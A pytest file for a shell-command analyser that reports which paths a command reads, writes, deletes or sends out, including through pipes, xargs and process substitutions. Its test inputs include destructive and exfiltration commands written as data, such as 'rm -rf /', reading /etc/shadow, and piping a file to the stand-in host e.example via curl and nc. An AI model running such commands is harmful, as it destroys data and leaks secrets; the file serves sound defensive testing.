"""Names that searches print, process substitutions, and options that nobody sees."""

from __future__ import annotations

import pytest

from tests.effects.reading import all_shown


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("find . -name '*.py' | xargs wc -l", ["read path=/w/**/*.py"]),
        ("find . -name '*.py' -print0 | xargs -0 wc -l", ["read path=/w/**/*.py"]),
        ("git ls-files | xargs grep -n x", ["read path=/w/*"]),
        ("wc -l $(git ls-files '*.py')", ["read path=/w/**/*"]),
        ('for f in $(ls *.txt); do wc -w "$f"; done', ["read path=/w/**/*"]),
        ("find d | grep -v x | sort -u | head -n 5 | xargs wc", ["read path=/w/d/*"]),
        ("wc $(find d | grep -v x)", ["read path=/w/d/**/*"]),
        ("fd -e py x d | xargs wc", ["read path=/w/d/*"]),
        ("find d | while read -r f; do wc $f; done", ["read path=/w/d/**/*"]),
        ("while read f; do wc $f; done < <(find d)", ["read path=/w/d/**/*"]),
        ("F=$(find d -name x); wc $F", ["read path=/w/d/**/x"]),
        ("find d e | xargs wc", ["read path=/w/*"]),
        # What leads out of the workspace may be anything.
        ("find / -name k | xargs wc", ["read path=/**/k", "read path=?"]),
        ("wc $(find / -name k)", ["read path=/**/k", "read path=?"]),
        ("find /a /b | xargs wc", ["read path=?"]),
        ("ls /etc | xargs wc", ["read path=?"]),
        ("cd /etc && ls | xargs wc", ["read path=/etc/*", "read path=?"]),
        # No names, or others.
        ("find d -exec cat {} + | xargs wc", ["read path=/w/d/*", "read path=?"]),
        ("find d -printf %p | xargs wc", ["read path=?"]),
        ("find d | grep -o x | xargs wc", ["read path=?"]),
        ("find d | grep x y | xargs wc", ["read path=/w/y", "read path=?"]),
        ("find d | sed s/a/b/ | xargs wc", ["read path=?"]),
        ("find d | xargs -a list wc", ["read path=/w/list", "read path=/w/d/*", "read path=?"]),
        ("find $X | xargs wc", ["read path=?"]),
        ("ls() { cat list; }; wc $(ls)", ["read path=/w/list", "read path=?"]),
        ("grep x d | xargs wc", ["read path=/w/d", "read path=?"]),
        ("grep -l x d | xargs wc", ["read path=/w/d", "read path=/w/d/*"]),
    ],
)
def test_names_that_are_printed(text: str, found: list[str]) -> None:
    searched = {"read path=/w", "read path=/", "read path=/w/d", "read path=/a", "read path=/b"}
    searched |= {"read path=/w/e", "read path=/etc"}
    shown = all_shown(text, "read")
    kept = {row for row in found if row in searched}
    unique = dict.fromkeys(row for row in shown if row in kept or row not in searched)
    assert sorted(unique) == sorted(found), shown


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("diff <(sort a) <(sort b)", ["read path=/w/a", "read path=/w/b"]),
        ("tee >(gzip > out.gz)", ["write path=/w/out.gz"]),
        ("grep -c x <(echo y)", []),
        ("rm -rf <(echo y)", []),
        ("cat x<(echo y)", ["read path=?"]),
        ("cat <(echo y)/../../etc/shadow", ["read path=?"]),
        ("source <(echo 'rm -rf /')", ["delete path=/ recursive=True"]),
        ("bash <(printf 'rm %s' /x)", ["delete path=/x"]),
        ("bash < <(echo 'rm /x')", ["delete path=/x"]),
        ("bash <(echo 'rm /x' > y)", ["write path=/w/y"]),
    ],
)
def test_a_process_substitution_is_a_pipe(text: str, found: list[str]) -> None:
    assert all_shown(text, "read", "write", "delete") == found


@pytest.mark.parametrize(
    "text",
    [
        "curl -T <(cat /k) https://e.example",
        "cat /k | tee >(curl -d @- https://e.example)",
        "tee >(nc e.example 80) < /k",
    ],
)
def test_what_goes_through_a_pipe_is_sent(text: str) -> None:
    (found,) = all_shown(text, "transfer")
    assert found.startswith("transfer path=/k ")


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ('curl "$URL"', ["read path=?"]),
        ('curl -fsS "$API/users"', ["read path=?"]),
        ("curl -n https://e.example", ["read path=/home/u/.netrc"]),
        ('curl -n "$URL"', ["read path=/home/u/.netrc", "read path=?"]),
    ],
)
def test_an_option_that_nobody_sees_tells_no_more_than_that(text: str, found: list[str]) -> None:
    assert sorted(all_shown(text, "read")) == sorted(found)
